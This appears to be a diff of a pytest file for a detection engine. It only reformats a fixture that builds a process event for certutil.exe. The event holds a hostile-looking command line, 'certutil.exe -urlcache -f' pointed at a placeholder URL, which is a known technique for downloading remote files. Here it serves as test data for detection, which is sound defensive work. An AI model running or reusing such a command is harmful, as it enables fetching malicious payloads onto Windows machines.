@@ -6,7 +6,15 @@ from engine_support import event
 
 @pytest.fixture
 def certutil():
-    return event("process", process={"name": "certutil.exe", "args": ["certutil.exe", "-urlcache", "-f", "http://x/a"], "command_line": "certutil.exe -urlcache -f http://x/a", "pid": 4000})
+    return event(
+        "process",
+        process={
+            "name": "certutil.exe",
+            "args": ["certutil.exe", "-urlcache", "-f", "http://x/a"],
+            "command_line": "certutil.exe -urlcache -f http://x/a",
+            "pid": 4000,
+        },
+    )
 
 
 @pytest.fixture
